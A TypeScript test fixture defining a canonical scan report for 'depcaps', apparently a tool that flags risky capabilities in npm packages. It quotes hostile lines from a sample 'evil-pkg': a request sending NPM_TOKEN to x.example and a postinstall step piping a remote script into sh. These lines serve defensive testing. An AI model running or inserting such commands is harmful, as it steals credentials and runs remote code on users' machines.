import type { ScanReport } from '../../src/contract/index.js';

/** One canonical scan report, rendered by every formatter in formatters.test.ts. */
export const CANONICAL_REPORT: ScanReport = {
  schemaVersion: 1,
  tool: { name: 'depcaps', version: '0.1.0', catalogVersion: '0123456789abcdef' },
  package: { name: 'evil-pkg', version: '1.0.0', integrity: 'sha512-AAAA', source: 'registry' },
  status: 'partial',
  capabilities: ['dynamic-require', 'env', 'install-script', 'network', 'shell'],
  findings: [
    { capability: 'shell', api: 'child_process', file: 'lib/index.js', line: 1, column: 23, excerpt: "const { exec: run } = require('node:child_process');", confidence: 'high', runs: 'import' },
    { capability: 'network', api: 'https', file: 'lib/index.js', line: 2, column: 15, excerpt: "const https = require('https');", confidence: 'high', runs: 'import' },
    { capability: 'network', api: 'https.get', file: 'lib/index.js', line: 4, column: 3, excerpt: "https.get('https://x.example/?t=' + process.env.NPM_TOKEN);", confidence: 'high', runs: 'call' },
    { capability: 'env', api: 'process.env.NPM_TOKEN', file: 'lib/index.js', line: 4, column: 39, excerpt: "https.get('https://x.example/?t=' + process.env.NPM_TOKEN);", confidence: 'high', runs: 'call' },
    { capability: 'shell', api: 'child_process.exec', file: 'lib/index.js', line: 5, column: 10, excerpt: 'return run(cmd);', confidence: 'high', runs: 'call' },
    { capability: 'dynamic-require', api: 'require(…)', file: 'lib/load.js', line: 3, column: 10, excerpt: 'return require(name);', confidence: 'low', runs: 'call', runsReason: 'may be loaded by the unresolved require at lib/index.js:9:3' },
    { capability: 'install-script', api: 'postinstall: curl, pipe to shell', file: 'package.json', line: 7, column: 5, excerpt: '"postinstall": "curl -s https://x.example/p.sh | sh"', confidence: 'high', runs: 'install' },
  ],
  errors: [{ file: 'dist/broken.js', reason: 'parse-error', message: 'dist/broken.js: syntax error: Unexpected token (2:9); lexical scan only' }],
  anomalies: [{ file: '__escaped__/evil.js', kind: 'path-escape', message: 'entry "package/../evil.js" escapes the package root' }],
  imports: ['axios'],
  runsAtInstall: true,
  install: {
    scripts: [
      {
        event: 'postinstall',
        command: 'curl -s https://x.example/p.sh | sh',
        when: 'always',
        steps: [
          { kind: 'program', command: 'curl -s https://x.example/p.sh', program: 'curl' },
          { kind: 'shell', command: 'sh', note: 'runs the commands piped into it' },
        ],
      },
    ],
    files: [],
  },
  dependencies: { dependencies: { axios: '^1.7.0' }, optionalDependencies: {}, peerDependencies: {} },
  stats: { files: 9, analyzedFiles: 3, parsedFiles: 4, reusedFiles: 0, bytes: 4321, ms: 42, cached: false },
};
